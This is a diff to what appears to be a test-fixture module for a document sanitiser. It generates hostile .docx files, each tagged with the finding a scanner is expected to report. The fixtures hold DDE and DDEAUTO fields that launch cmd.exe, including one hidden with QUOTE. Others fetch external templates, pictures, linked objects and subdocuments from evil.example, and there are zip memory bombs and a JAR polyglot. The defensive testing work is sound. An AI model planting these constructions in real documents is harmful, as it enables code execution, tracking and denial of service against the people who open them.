@@ -9,6 +9,7 @@ Zip tricks write the archive by hand (raw_zip) where zipfile would refuse to lie
 from __future__ import annotations
 
 import io
+import random
 import re
 import struct
 import zipfile
@@ -16,13 +17,14 @@ import zlib
 from functools import cache
 
 from . import cfb
-from .documents import _report_docx, _workbook, with_chart, word_streams
+from .documents import _report_docx, _workbook, excel_vml, with_chart, word_streams
 
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 R_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 R_MS = "http://schemas.microsoft.com/office/2006/relationships"
 DOC_RELS = "word/_rels/document.xml.rels"
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."
 
 
 # ---- building blocks ------------------------------------------------------------
@@ -429,6 +431,247 @@ def docx_billion_laughs() -> tuple[str, bytes, str]:
     )
 
 
+# ---- OOXML: what Office resolves, whatever the names say ----------------------------
+
+WORD_PART = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    f'<w:{{root}} xmlns:w="{W}" xmlns:r="{R_OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office"'
+    ' xmlns:v="urn:schemas-microsoft-com:vml">{body}</w:{root}>'
+)
+
+
+def complex_field(instruction: str, result: str = "x") -> str:
+    """A complex field, its instruction split across two runs as Word splits them."""
+    middle = len(instruction) // 2
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+        for piece in (instruction[:middle], instruction[middle:])
+    )
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def with_header(part_name: str, header: bytes, content_type: str | None = None) -> bytes:
+    """The report with one more header part at `part_name`, related as a header and
+    referenced from the section, as Word writes one."""
+    target = part_name.removeprefix("word/")
+    edit = {
+        DOC_RELS: add_relationship(f"{R_OFFICE}/header", target, rel_id="rIdHdr"),
+        "word/document.xml": lambda d: d.replace(
+            b"<w:footerReference", b'<w:headerReference w:type="default" r:id="rIdHdr"/><w:footerReference', 1
+        ),
+    }
+    if content_type:
+        edit["[Content_Types].xml"] = add_content_type(content_type)
+    return repack(_report_docx(), {part_name: header}, edit)
+
+
+def docx_dde_header_named_bin() -> tuple[str, bytes, str]:
+    """A header named word/header2.bin holding WordprocessingML with DDEAUTO (LibreOffice
+    loads it by its relationship; only .xml names were parsed)."""
+    body = "<w:p>" + complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + "</w:p>"
+    header = WORD_PART.format(root="hdr", body=body).encode()
+    ctype = f'<Default Extension="bin" ContentType="{OFFICE_TYPE}wordprocessingml.header+xml"/>'
+    return "header.docx", with_header("word/header2.bin", header, ctype), "dde"
+
+
+def docx_dde_header_no_content_type() -> tuple[str, bytes, str]:
+    """The same header with no content type at all: still parsed, by what its bytes are."""
+    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
+    return "header2.docx", with_header("word/media/hdr.dat", WORD_PART.format(root="hdr", body=body).encode()), "dde"
+
+
+def docx_header_not_xml() -> tuple[str, bytes, str]:
+    """A header relationship to bytes that are not XML (UTF-32, which some readers decode)."""
+    body = "<w:p>" + complex_field(" DDE cmd.exe /c calc ") + "</w:p>"
+    header = WORD_PART.format(root="hdr", body=body).replace('encoding="UTF-8"', 'encoding="UTF-32"')
+    return "utf32.docx", with_header("word/header2.xml", header.encode("utf-32-be")), "malformed"
+
+
+def _external_hyperlink_used_by(rels_part: str, source: str, edit, name: str) -> tuple[str, bytes, str]:
+    rel = add_relationship(f"{R_OFFICE}/hyperlink", "https://evil.example/x", external=True, rel_id="rIdLink")
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    )
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        present = rels_part in z.namelist()
+    added = {} if present else {rels_part: rel(rels)}
+    edits = {source: edit}
+    if present:
+        edits[rels_part] = rel
+    return name, repack(_report_docx(), added, edits), "external_relationship"
+
+
+def docx_hyperlink_used_as_image() -> tuple[str, bytes, str]:
+    """A hyperlink relationship used by the picture's a:blip r:link: fetched on open (a tracking pixel)."""
+    return _external_hyperlink_used_by(
+        DOC_RELS, "word/document.xml", lambda d: d.replace(b"<a:blip ", b'<a:blip r:link="rIdLink" ', 1), "pixel.docx"
+    )
+
+
+def docx_hyperlink_used_as_template() -> tuple[str, bytes, str]:
+    """A hyperlink relationship used by w:attachedTemplate: the template is fetched on open."""
+    return _external_hyperlink_used_by(
+        "word/_rels/settings.xml.rels",
+        "word/settings.xml",
+        lambda d: d.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdLink"/></w:settings>'),
+        "template.docx",
+    )
+
+
+def docx_hyperlink_used_as_subdocument() -> tuple[str, bytes, str]:
+    """A master document's w:subDoc pointing at a hyperlink relationship."""
+    return _external_hyperlink_used_by(
+        DOC_RELS, "word/document.xml", in_body('<w:p><w:subDoc r:id="rIdLink"/></w:p>'), "master.docx"
+    )
+
+
+def docx_hyperlink_used_as_ole_link() -> tuple[str, bytes, str]:
+    """A linked OLE object (o:OLEObject Type="Link") whose link is a hyperlink relationship."""
+    ole = (
+        '<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/>'
+        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s1" r:id="rIdLink" UpdateMode="Always"/>'
+        "</w:object></w:r></w:p>"
+    )
+    return _external_hyperlink_used_by(DOC_RELS, "word/document.xml", in_body(ole), "linked.docx")
+
+
+def docx_hyperlink_used_as_frame() -> tuple[str, bytes, str]:
+    """A frameset in webSettings whose frame's source is a hyperlink relationship."""
+    frames = b'<w:frameset><w:frame><w:sourceFileName r:id="rIdLink"/></w:frame></w:frameset>'
+    return _external_hyperlink_used_by(
+        "word/_rels/webSettings.xml.rels",
+        "word/webSettings.xml",
+        lambda d: d.replace(b"</w:webSettings>", frames + b"</w:webSettings>"),
+        "frames2.docx",
+    )
+
+
+def docx_unc_relative_looking_link() -> tuple[str, bytes, str]:
+    """A hyperlink with no scheme that is a host all the same (\\\\host\\share, percent-encoded)."""
+    target = "%5C%5Cevil.example%5Cshare%5Cdoc.docx"
+    return (
+        "unc.docx",
+        repack(_report_docx(), edit={DOC_RELS: add_relationship(f"{R_OFFICE}/hyperlink", target, True)}),
+        "external_relationship",
+    )
+
+
+def docx_internal_mode_url() -> tuple[str, bytes, str]:
+    """A template whose relationship leaves out TargetMode but names a URL all the same."""
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{R_OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm"/>'
+        "</Relationships>"
+    ).encode()
+    return "mode.docx", repack(_report_docx(), {"word/_rels/settings.xml.rels": settings_rels}), "external_relationship"
+
+
+def _with_body(xml: str, name: str, found: str) -> tuple[str, bytes, str]:
+    return name, repack(_report_docx(), edit={"word/document.xml": in_body(xml)}), found
+
+
+def docx_includepicture() -> tuple[str, bytes, str]:
+    """INCLUDEPICTURE with \\d: the picture is fetched every time the document opens."""
+    field = complex_field(' INCLUDEPICTURE "https://evil.example/p.png" \\\\d ')
+    return _with_body(f"<w:p>{field}</w:p>", "picture.docx", "external_field")
+
+
+def docx_includetext_simple() -> tuple[str, bytes, str]:
+    instruction = " INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\x.docx&quot; "
+    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+    return _with_body(f"<w:p>{field}</w:p>", "include.docx", "external_field")
+
+
+def docx_link_nested_in_if() -> tuple[str, bytes, str]:
+    """A LINK field nested in an IF's result: Word updates the inner field on its own."""
+    inner = complex_field(' LINK Excel.Sheet.12 "https://evil.example/book.xlsx" "Sheet1!R1C1" \\\\a ')
+    outer = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
+        f'</w:instrText></w:r>{inner}<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return _with_body(f"<w:p>{outer}</w:p>", "nested.docx", "external_field")
+
+
+def docx_quote_computed_dde() -> tuple[str, bytes, str]:
+    """`{ {QUOTE 68 68 69 65 85 84 79} c:\\...cmd.exe }`: the keyword is what QUOTE yields, DDEAUTO."""
+    quote = complex_field(" QUOTE 68 68 69 65 85 84 79 ", "DDEAUTO")
+    outer = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{quote}<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return _with_body(f"<w:p>{outer}</w:p>", "quote.docx", "external_field")
+
+
+def docx_huge_instruction() -> tuple[str, bytes, str]:
+    """A 1.6 MB document whose one w:instrText holds 250 MB (inflated) of text (the pieces
+    cap counted expat's callbacks, not characters: 538 MB of memory)."""
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        document = z.read("word/document.xml")
+    head, tail = document.split(b"<w:sectPr", 1)
+    prefix = head + b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+    suffix = b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr' + tail
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    start = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
+    mib = b"A" * (1 << 20)
+    block = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
+    deflated = start + block * 250 + packer.compress(suffix) + packer.flush()
+    crc = zlib.crc32(prefix)
+    for _ in range(250):
+        crc = zlib.crc32(mib, crc)
+    crc = zlib.crc32(suffix, crc)
+    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
+    size = len(prefix) + 250 * len(mib) + len(suffix)
+    entries.append(dict(name="word/document.xml", data=deflated, method=8, crc=crc, size=size))
+    entries.append(stored("word/media/photo.bin", random.Random(17).randbytes(1_300_000)))
+    return "fields.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_huge_simple_field() -> tuple[str, bytes, str]:
+    """A w:fldSimple whose w:instr attribute is 40 MB: expat holds a whole tag before reporting it."""
+    with zipfile.ZipFile(io.BytesIO(_report_docx())) as z:
+        document = z.read("word/document.xml")
+    big = b'<w:p><w:fldSimple w:instr="' + b"A" * (40 << 20) + b'"/></w:p>'
+    document = document.replace(b"<w:sectPr", big + b"<w:sectPr", 1)
+    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    entries.append(
+        dict(
+            name="word/document.xml",
+            data=packer.compress(document) + packer.flush(),
+            method=8,
+            crc=zlib.crc32(document),
+            size=len(document),
+        )
+    )
+    # Noise media, so that the file is 1.4 MB and the ratio limit (200x) does not decide first.
+    entries.append(stored("word/media/photo.bin", random.Random(18).randbytes(1_300_000)))
+    return "attribute.docx", raw_zip(entries), "zip_limits"
+
+
+def docx_jar_inside() -> tuple[str, bytes, str]:
+    """A runnable JAR in a document: a manifest naming a main class (`java -jar report.docx`)."""
+    parts = {
+        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n",
+        "Main.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200,
+    }
+    return "jar.docx", repack(_report_docx(), parts), "polyglot"
+
+
+def docx_tag_soup_header() -> tuple[str, bytes, str]:
+    """VML tag soup (accepted in a workbook's legacy drawing) reached as a header."""
+    ctype = f'<Override PartName="/word/header2.vml" ContentType="{OFFICE_TYPE}vmlDrawing"/>'
+    return "soup.docx", with_header("word/header2.vml", excel_vml(), ctype), "malformed"
+
+
 # ---- zip tricks --------------------------------------------------------------------
 
 
@@ -668,6 +911,24 @@ OOXML_HOSTILE = [
     docx_package_not_a_document,
     docx_xxe,
     docx_billion_laughs,
+    docx_dde_header_named_bin,
+    docx_dde_header_no_content_type,
+    docx_header_not_xml,
+    docx_hyperlink_used_as_image,
+    docx_hyperlink_used_as_template,
+    docx_hyperlink_used_as_subdocument,
+    docx_hyperlink_used_as_ole_link,
+    docx_hyperlink_used_as_frame,
+    docx_unc_relative_looking_link,
+    docx_internal_mode_url,
+    docx_includepicture,
+    docx_includetext_simple,
+    docx_link_nested_in_if,
+    docx_quote_computed_dde,
+    docx_huge_instruction,
+    docx_huge_simple_field,
+    docx_jar_inside,
+    docx_tag_soup_header,
 ]
 ZIP_HOSTILE = [
     docx_zeros_bomb,
